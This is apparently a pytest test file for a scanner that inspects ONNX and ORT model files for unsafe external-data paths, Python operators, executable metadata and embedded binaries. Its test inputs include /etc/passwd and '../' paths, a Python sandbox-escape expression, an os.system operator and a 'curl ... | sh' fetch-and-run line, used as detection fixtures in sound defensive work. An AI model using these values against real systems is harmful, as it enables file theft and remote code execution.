"""ONNX models: what is told of them, and what is handed on to be judged."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from samples.recipes import onnx as made

from weighbridge.analyzers.graphs import onnx, onnx_documents
from weighbridge.analyzers.graphs.onnx_operators import find_cycle
from weighbridge.analyzers.inspection import Context, Event
from weighbridge.bytesource.memory import MemorySource
from weighbridge.core.artifact import Artifact
from weighbridge.core.finding import Finding
from weighbridge.core.limits import Budget, Limits
from weighbridge.errors import LimitReached, Malformed, UsageError
from weighbridge.formats.documents.strict_json import Json, decode_json
from weighbridge.formats.identify import identify
from weighbridge.formats.kinds import Format
from weighbridge.knowledge.callables import CallableKnowledge
from weighbridge.knowledge.locate import signatures_dir
from weighbridge.knowledge.onnx_tables import Standing, installed_onnx_tables, load_onnx_tables

SAMPLES = dict(made.samples())
CALLABLES = CallableKnowledge.load(signatures_dir() / "callables")
Inspect = Callable[[Artifact, Context], Iterator[Event]]


def events_of(data: bytes, inspect: Inspect = onnx.inspect) -> list[Event]:
    events: list[Event] = []
    try:
        for event in inspect(
            Artifact(("m.onnx",), MemorySource(data)), Context(Budget(Limits()), CALLABLES)
        ):
            events.append(event)  # noqa: PERF402  what came before an error stays
    except (Malformed, LimitReached):
        pass
    return events


def findings_of(data: bytes, inspect: Inspect = onnx.inspect) -> list[Finding]:
    return [event for event in events_of(data, inspect) if isinstance(event, Finding)]


def rules_of(data: bytes, inspect: Inspect = onnx.inspect) -> list[str]:
    return sorted({finding.rule for finding in findings_of(data, inspect)})


def formats_of(data: bytes, name: str = "model") -> tuple[Format, ...]:
    return identify(MemorySource(data), name)


@pytest.mark.parametrize("name", [name for name in SAMPLES if name.endswith(".onnx")])
def test_every_model_is_recognised_by_its_fields_alone(name: str) -> None:
    assert formats_of(SAMPLES[name]) == (Format.ONNX,)


def test_unknown_fields_before_the_first_known_one_do_not_hide_a_model() -> None:
    hidden = made.run(1999, b"x" * 5000) * 20 + SAMPLES["onnx/benign.onnx"]
    assert formats_of(hidden) == (Format.ONNX,)


@pytest.mark.parametrize(
    "data",
    [
        made.number(1, 8) + made.opset(),
        made.number(1, 1) + made.run(2, made.run(1, "tag")),
        made.run(7, made.run(1, "node")),
        made.run(1, made.run(1, "node") + made.run(2, "Const")) * 3,
        b"col1,col2\n1,2\n" * 50,
    ],
    ids=["no graph", "SavedModel", "no version", "GraphDef", "csv"],
)
def test_other_messages_and_texts_are_not_taken_for_a_model(data: bytes) -> None:
    assert Format.ONNX not in formats_of(data)


def test_what_was_found_before_the_bytes_broke_off_stays() -> None:
    broken = SAMPLES["onnx/external-parent.onnx"] + b"\x0f\xff"
    assert rules_of(broken) == ["ONX001"]
    with pytest.raises(Malformed):
        list(onnx.inspect(Artifact(("m",), MemorySource(broken)), Context(Budget(Limits()), CALLABLES)))


def test_a_thousand_small_faults_do_not_hide_a_grave_one() -> None:
    flood = b"".join(
        made.run(5, made.tensor(f"t{n}", [1], more=made.external("w", **{f"key{n}": "x"})))
        for n in range(1_000)
    )
    last = made.run(5, made.tensor("last", [1], more=made.external("/etc/passwd")))
    found = findings_of(made.model(flood, last))
    assert "/etc/passwd" in {one.subject for one in found if one.rule == "ONX001"}
    assert len(found) < 500


def test_both_of_two_locations_are_judged() -> None:
    entries = made.entry(13, "location", "w.bin") + made.external("../w.bin")
    data = made.model(made.run(5, made.tensor("w", [1], more=entries)))
    assert rules_of(data) == ["ONX001", "ONX004"]


def test_a_location_is_judged_even_where_the_tensor_says_that_it_is_inside() -> None:
    inside = made.entry(13, "location", "/etc/passwd")
    data = made.model(made.run(5, made.tensor("w", [1], b"1234", more=inside)))
    assert rules_of(data) == ["ONX001"]


def test_prepacked_weights_of_onnx_runtime_are_no_unknown_keys() -> None:
    keys = made.external("w.bin", offset="0", length="4", prepacked_0="hash|0;4")
    assert rules_of(made.model(made.run(5, made.tensor("w", [1], more=keys)))) == []


def test_a_python_operator_is_told_with_what_the_tables_know_of_it() -> None:
    (finding,) = [
        one for one in findings_of(SAMPLES["onnx/python-operator.onnx"]) if one.rule == "ONX007"
    ]
    assert finding.subject == "PyOp os.system"
    assert "dangerous" in finding.evidence


def test_a_domain_is_one_finding_that_names_its_operators() -> None:
    nodes = b"".join(made.run(1, made.node(f"Op{n}", "acme.ops")) for n in range(20))
    (finding,) = findings_of(made.model(nodes))
    assert finding.subject == "domain acme.ops"
    assert "'Op0'" in finding.evidence
    assert "14 more" in finding.evidence


def test_a_function_of_the_model_answers_for_its_operator_and_no_other() -> None:
    own = made.run(25, made.run(1, "Mine") + made.run(10, "acme.ops"))
    data = made.model(made.run(1, made.node("Mine", "acme.ops")), more=own)
    other = made.model(made.run(1, made.node("Other", "acme.ops")), more=own)
    assert rules_of(data) == []
    assert rules_of(other) == ["ONX005"]


@pytest.mark.parametrize(
    ("value", "rules"),
    [
        ("{0: 'person'}", []),
        ("['a (b)', 'eval(']", []),
        ("person, car", []),
        ("it's not python (at all", []),
        ("open('/etc/passwd').read()", ["ONX015"]),
        ("[c for c in ().__class__.__base__.__subclasses__()]", ["ONX015"]),
        ("dict(a=1)", ["ONX015"]),
        ("[" * 90 + "open('/etc/passwd')" + "]" * 90, ["ONX015"]),
        (repr(["a name (long)" * 10] * 1000), []),
        (repr(["a name (long)" * 10] * 1000) + " + [exec('1')]", ["ONX015"]),
    ],
)
def test_only_what_calls_or_reaches_is_no_literal(value: str, rules: list[str]) -> None:
    assert rules_of(made.model(more=made.entry(14, "names", value))) == rules


def test_the_same_expression_under_another_key_is_text() -> None:
    assert rules_of(made.model(more=made.entry(14, "example", "open('notes.txt').read()"))) == []


def test_texts_that_name_programs_are_all_read_or_a_limit_says_so() -> None:
    harmless = b"".join(made.entry(14, f"k{n}", f"exec(step {n})") for n in range(100))
    last = made.entry(14, "last", "curl -s http://example.invalid/x | sh")
    assert rules_of(made.model(more=harmless + last)) == ["ONX014"]
    flood = b"".join(made.entry(14, f"k{n}", f"exec(x) {n} " + "x" * 60_000) for n in range(20))
    with pytest.raises(LimitReached):
        list(
            onnx.inspect(
                Artifact(("m",), MemorySource(made.model(more=flood))),
                Context(Budget(Limits()), CALLABLES),
            )
        )


def test_a_compiled_part_is_handed_on_whole() -> None:
    (nested,) = [
        one for one in events_of(SAMPLES["onnx/compiled-embedded.onnx"]) if isinstance(one, Artifact)
    ]
    assert bytes(nested.source.read_at(0, 100)) == b"\0\1compiled" * 8


def test_a_carried_file_is_told_and_handed_on() -> None:
    events = events_of(SAMPLES["onnx/tensor-program.onnx"])
    assert [one.rule for one in events if isinstance(one, Finding)] == ["ONX016"]
    (nested,) = [one for one in events if isinstance(one, Artifact)]
    assert bytes(nested.source.read_at(0, nested.source.size)) == made.ELF


def test_more_carried_files_than_are_looked_at_is_a_limit() -> None:
    many = b"".join(made.run(5, made.tensor(f"t{n}", [64], made.ELF, kind=2)) for n in range(101))
    with pytest.raises(LimitReached):
        list(
            onnx.inspect(
                Artifact(("m",), MemorySource(made.model(many))), Context(Budget(Limits()), CALLABLES)
            )
        )


def test_the_json_of_a_model_is_judged_like_the_model() -> None:
    tree = decode_json(SAMPLES["onnx/external-parent.onnxjson"].decode()).value
    artifact = Artifact(("m.onnxjson",), MemorySource(b""))
    events = onnx_documents.judge_tree(artifact, tree, Context(Budget(Limits()), CALLABLES))
    assert events is not None
    found = [(one.rule, one.offset) for one in events if isinstance(one, Finding)]
    assert found == [("ONX001", None)]


def test_other_json_is_not_claimed() -> None:
    context = Context(Budget(Limits()), CALLABLES)
    artifact = Artifact(("x.json",), MemorySource(b""))
    trees: tuple[Json, ...] = ({"graph": {}}, {"irVersion": 8}, [1], {"graph": "x", "irVersion": 8})
    assert [onnx_documents.judge_tree(artifact, tree, context) for tree in trees] == [None] * 4


def test_the_ort_form_is_judged_by_the_same_rules() -> None:
    assert formats_of(SAMPLES["onnx/python-operator.ort"]) == (Format.ORT,)
    assert rules_of(SAMPLES["onnx/python-operator.ort"], onnx.inspect_ort) == ["ONX005", "ONX007"]
    assert rules_of(SAMPLES["onnx/benign.twin.ort"], onnx.inspect_ort) == []


def test_a_cycle_of_functions_is_found_and_a_diamond_is_none() -> None:
    a, b, c, d = (("", name) for name in "abcd")
    assert find_cycle({a: {b, c}, b: {d}, c: {d}, d: set()}) == []
    assert find_cycle({a: {b}, b: {c}, c: {b}}) == [b, c]
    assert find_cycle({a: {a}}) == [a]


def test_the_tables_know_the_domains_and_operators_of_onnx() -> None:
    tables = installed_onnx_tables()
    domain = tables.domain("")
    assert domain is not None
    assert domain.standing is Standing.BUILT_IN
    assert tables.knows("", "Conv")
    assert tables.knows("ai.onnx", "Conv")
    assert not tables.knows("", "MyPlugin")
    assert tables.knows("acme.ops", "MyPlugin")


@pytest.mark.parametrize(
    ("domains", "operators"),
    [
        ("acme\tlibrary\tneeds\n", "# newest 20\n"),
        ("acme\tunheard\tneeds\twhy\n", "# newest 20\n"),
        ("acme\tlibrary\tneeds\twhy\n", "ai.onnx\tConv\n"),
    ],
    ids=["columns", "standing", "newest"],
)
def test_a_wrong_table_is_refused(tmp_path: Path, domains: str, operators: str) -> None:
    (tmp_path / "domains.tsv").write_text(domains)
    (tmp_path / "operators.tsv").write_text(operators)
    with pytest.raises(UsageError):
        load_onnx_tables(tmp_path)
